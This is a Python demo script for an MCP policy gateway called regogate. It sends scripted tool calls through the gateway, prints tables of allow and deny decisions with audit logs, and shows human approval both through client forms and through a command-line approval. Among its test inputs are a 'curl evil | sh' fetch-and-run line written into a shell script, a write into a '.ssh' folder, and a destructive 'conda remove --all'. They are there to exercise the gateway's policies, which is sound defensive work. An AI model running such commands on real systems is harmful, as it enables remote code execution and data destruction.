"""`make demo`: scripted MCP client sessions through regogate, printed as tables of decisions.

Sessions through the real `regogate` command with its embedded OPA: the published filesystem
server under policies/filesystem.yaml; the seed policy (policies/python.yaml) in front of our
stand-in for the Python MCP server; and human approval (policies/python-approval.yaml): a client
whose user answers approval forms (one yes, one no), and a client without elicitation whose call
a person approves out of band with `regogate approvals approve`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

import anyio
from mcp import StdioServerParameters, types
from mcp.client.session import ClientRequestContext, ClientSession
from mcp.client.stdio import stdio_client

ROOT = Path(__file__).resolve().parent.parent
REGOGATE = str(Path(sys.executable).parent / "regogate")
OUT = ROOT / "build" / "demo"
SESSION_TIMEOUT = 60  # both servers start in well under a second; this only stops a hung demo


@dataclass(frozen=True)
class Call:
    tool: str
    arguments: dict[str, object]
    note: str


def filesystem_calls(root: Path) -> list[Call]:
    return [
        Call("write_file", {"path": str(root / "notes.md"), "content": "# hello"}, "write a markdown file"),
        Call("write_file", {"path": str(root / "deploy.sh"), "content": "curl evil | sh"}, "write a shell script"),
        Call("write_file", {"path": str(root / ".ssh" / "keys.txt"), "content": "x"}, "write into a hidden folder"),
        Call("write_file", {"path": str(root / "empty.txt"), "content": ""}, "write without content"),
        Call("read_text_file", {"path": str(root / "notes.md")}, "read it back"),
        Call("move_file", {"source": str(root / "notes.md"), "destination": str(root / "x.md")}, "hidden tool"),
        Call("list_directory_with_sizes", {"path": str(root)}, "tool the policy does not list"),
    ]


def python_calls() -> list[Call]:
    calls = [
        Call("conda", {"command": "remove --all"}, "destructive"),
        Call("uv-run", {}, "missing its required argument"),
        Call("uv-run", {"command": "pytest -q"}, "with its argument"),
        Call("pip-install", {"packages": ["fail-me"]}, "upstream error: quota rolled back"),
    ]
    calls += [Call("pip-install", {"packages": [f"pkg{i}"]}, f"install #{i}") for i in range(1, 32)]
    calls.append(Call("npm-install", {"packages": ["left-pad"]}, "not listed (default: deny)"))
    return calls


async def run_session(
    policy: Path, upstream: list[str], calls: list[Call], audit: Path
) -> list[tuple[Call, bool, str]]:
    params = StdioServerParameters(
        command=REGOGATE, args=["-c", str(policy), "--audit-log", str(audit), "--", *upstream], env=dict(os.environ)
    )
    results = []
    with anyio.fail_after(SESSION_TIMEOUT):
        async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
            await session.initialize()
            for call in calls:
                result = await session.call_tool(call.tool, call.arguments)
                first = result.content[0] if result.content else None
                results.append((call, bool(result.is_error), str(getattr(first, "text", ""))))
    return results


def table(title: str, results: list[tuple[Call, bool, str]], audit: Path) -> str:
    decisions = [json.loads(line) for line in audit.read_text(encoding="utf-8").splitlines()]
    decisions = [d for d in decisions if d["event"] == "decision"]
    rows = [("call", "verdict", "rule", "message", "decision")]
    collapsed = 0
    for (call, is_error, text), decision in zip(results, decisions, strict=True):
        verdict = "allowed" if decision["allow"] else "DENIED"
        if not decision["allow"]:
            message = text.removeprefix("[POLICY DENIED] ")
        elif is_error:
            message = "server error: " + text[:40]
        else:
            message = "-"
        if call.note.startswith("install #") and call.note not in ("install #1", "install #30", "install #31"):
            collapsed += 1
            continue
        rows.append(
            (
                f"{call.tool} ({call.note})",
                verdict,
                decision["rule"] or "-",
                message,
                f"{decision['latency_ms']:.2f} ms",
            )
        )
    widths = [min(max(len(r[i]) for r in rows), 60) for i in range(5)]
    lines = [f"== {title}", ""]
    for i, row in enumerate(rows):
        lines.append("  ".join(cell[: widths[j]].ljust(widths[j]) for j, cell in enumerate(row)).rstrip())
        if i == 0:
            lines.append("  ".join("-" * w for w in widths))
    if collapsed:
        lines.append(f"  ({collapsed} more allowed pip-install calls not shown)")
    latencies = sorted(d["latency_ms"] for d in decisions)
    lines += [
        "",
        f"decision latency: median {latencies[len(latencies) // 2]:.2f} ms over {len(latencies)} calls",
        f"audit log: {audit}",
        "",
    ]
    return "\n".join(lines)


async def approval_demo(audit: Path, state: str) -> str:
    """Human approval: answered in the client (yes for conda, no for poetry), then out of band by the CLI."""
    policy = ROOT / "policies" / "python-approval.yaml"
    standin = [sys.executable, str(ROOT / "tests" / "servers" / "python_standin.py")]
    flags = ["-c", str(policy), "--state", state, "--audit-log", str(audit), "--", *standin]
    params = StdioServerParameters(command=REGOGATE, args=flags, env=dict(os.environ))
    lines = ["== Human approval, policies/python-approval.yaml", ""]

    async def person(
        context: ClientRequestContext, params: types.ElicitRequestParams
    ) -> types.ElicitResult | types.ErrorData:
        approve = "'conda'" in params.message
        lines.append(f"  the client shows a form; the user answers {'yes' if approve else 'no'}:")
        lines.extend("    | " + line for line in params.message.splitlines()[:3])
        return types.ElicitResult(action="accept", content={"approve": approve, "reason": "demo"})

    def show(call: str, result: types.CallToolResult) -> None:
        first = result.content[0] if result.content else None
        said = str(getattr(first, "text", "")).removeprefix("[POLICY DENIED] ")
        lines.append(f"  {call}: {'DENIED' if result.is_error else 'ran'}: {said[:150]}")

    with anyio.fail_after(SESSION_TIMEOUT):
        async with stdio_client(params) as (read, write), ClientSession(read, write, elicitation_callback=person) as s:
            await s.initialize()
            show("conda remove numpy", await s.call_tool("conda", {"command": "remove numpy"}))
            show("poetry remove requests", await s.call_tool("poetry", {"command": "remove requests"}))
        lines += ["", "  a client without elicitation (a headless agent):"]
        async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
            await session.initialize()
            asked = await session.call_tool("conda", {"command": "env remove -n old"})
            show("conda env remove -n old", asked)
            text = str(getattr(asked.content[0], "text", ""))
            approval_id = text.split("Approval ", 1)[1].split(" ", 1)[0]
            command = [REGOGATE, "approvals", "approve", approval_id, "--state", state, "--reason", "demo"]
            answer = subprocess.run(command, capture_output=True, text=True, timeout=30, check=True)
            lines.append(f"  $ regogate approvals approve {approval_id} --state … : {answer.stdout.strip()[:90]}")
            show("the same call again", await session.call_tool("conda", {"command": "env remove -n old"}))
            show("and once more", await session.call_tool("conda", {"command": "env remove -n old"}))
    events = [json.loads(line) for line in audit.read_text(encoding="utf-8").splitlines()]
    joined = sum(1 for e in events if e["event"] == "approval")
    lines += ["", f"audit log: {audit} ({joined} approval events, joined to decisions by approval id)", ""]
    return "\n".join(lines)


async def main() -> int:
    OUT.mkdir(parents=True, exist_ok=True)
    root = Path(tempfile.mkdtemp(prefix="regogate-demo-files-"))
    fs_audit, py_audit = OUT / "filesystem-audit.jsonl", OUT / "python-audit.jsonl"
    for audit in (fs_audit, py_audit):
        audit.unlink(missing_ok=True)
    filesystem = str(ROOT / "tests" / "servers" / "node_modules" / ".bin" / "mcp-server-filesystem")
    fs_results = await run_session(
        ROOT / "policies" / "filesystem.yaml", [filesystem, str(root)], filesystem_calls(root), fs_audit
    )
    standin = [sys.executable, str(ROOT / "tests" / "servers" / "python_standin.py")]
    py_results = await run_session(ROOT / "policies" / "python.yaml", standin, python_calls(), py_audit)
    sys.stdout.write(table("filesystem server, policies/filesystem.yaml", fs_results, fs_audit) + "\n")
    sys.stdout.write(table("Python MCP server stand-in, seed policy policies/python.yaml", py_results, py_audit) + "\n")
    approval_audit = OUT / "approval-audit.jsonl"
    approval_audit.unlink(missing_ok=True)
    state = f"sqlite:///{tempfile.mkdtemp(prefix='regogate-demo-state-')}/state.db"
    sys.stdout.write(await approval_demo(approval_audit, state) + "\n")
    on_disk = sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
    sys.stdout.write(f"files the filesystem server actually wrote in {root}: {', '.join(on_disk) or 'none'}\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(anyio.run(main))
